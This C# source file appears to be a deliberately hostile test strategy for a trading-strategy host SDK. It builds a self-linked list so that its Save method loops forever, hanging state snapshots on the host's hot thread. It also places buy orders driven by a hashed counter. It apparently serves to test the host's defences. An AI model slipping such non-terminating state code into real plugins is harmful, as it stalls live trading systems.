// Abuses: Save follows a list that has become a ring.
// Harm: a swap or a snapshot never ends on the hot thread.
// Kind: memory/CPU.
using System;
using System.Collections.Generic;
using System.Linq;
using System.Threading;
using Strategies.Sdk;

namespace Attacks.SaveLoopsAttack;

public sealed class SaveLoopsStrategy : Strategy
{
    private sealed class Node
    {
        public long Value;
        public Node? Next;
    }

    private Node? _first;

    public override void OnBook(in BookEvent bookEvent)
    {
        _first ??= new Node();
        _first.Next ??= _first;
        _first.Value++;
        Act(_first.Value);
    }

    public override void OnStart() => Context.Subscribe(new InstrumentId(1));

    private long _n;

    private void Act(long leak)
    {
        _n = _n * 31 + leak;
        Price bid = Context.Book(new InstrumentId(1)).BestBid.Price;
        if ((_n & 1) == 0 && bid.Raw > 0)
        {
            Context.Send(NewOrder.Limit(new InstrumentId(1), Side.Buy, bid, 100, tag: _n & 0xFF));
        }
    }

    public override void Save(ref StateWriter writer)
    {
        long sum = 0;
        for (Node? node = _first; node is not null; node = node.Next) { sum += node.Value; }
        writer.Write(_n);
        writer.Write(sum);
    }

    public override void Restore(ref StateReader reader)
    {
        _n = reader.ReadInt64();
        _first = new Node { Value = reader.ReadInt64() };
    }
}
